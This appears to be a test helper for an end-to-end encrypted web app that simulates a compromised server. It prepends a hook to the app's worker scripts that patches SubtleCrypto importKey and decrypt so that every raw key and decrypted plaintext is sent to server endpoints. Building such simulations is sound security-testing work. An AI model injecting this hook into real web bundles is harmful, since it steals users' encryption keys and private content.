/** Web code as a compromised server would serve it: the worker that holds a person's keys tells the server each key and each plaintext. */
import { cp, readdir, readFile, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { buildWeb, dataLayout } from "@subrosa/server"

const hook = `;(() => {
  const subtle = SubtleCrypto.prototype
  const { importKey, decrypt } = subtle
  const text = (bytes) => { let s = ""; for (const b of new Uint8Array(bytes)) s += String.fromCharCode(b); return btoa(s) }
  const url = (bytes) => text(bytes).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "")
  subtle.importKey = function (format, data, ...rest) {
    if (format === "raw" && data.byteLength === 32) fetch("/v1/server?v=" + url(data.buffer ? data.slice() : data)).catch(() => {})
    return importKey.call(this, format, data, ...rest)
  }
  subtle.decrypt = async function (...args) {
    const opened = await decrypt.apply(this, args)
    fetch("/v1/sign-in/start", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ stolen: text(opened) }) }).catch(() => {})
    return opened
  }
})();
`

/** Answers the directory of the changed app. */
export async function changeWeb(root: string): Promise<string> {
  const { dir } = await buildWeb({ fallbackDir: dataLayout(join(root, "built")).web })
  const changed = join(root, "changed-web")
  await cp(dir, changed, { recursive: true, filter: (from) => !/\.(br|gz|zst)$/.test(from) })
  const assets = join(changed, "assets")
  let hooked = 0
  for (const name of await readdir(assets)) {
    if (!/worker/i.test(name) || !name.endsWith(".js")) continue
    const file = join(assets, name)
    await writeFile(file, hook + (await readFile(file, "utf8")))
    hooked++
  }
  if (hooked === 0) throw new Error("the app's worker is no longer where it was")
  return changed
}
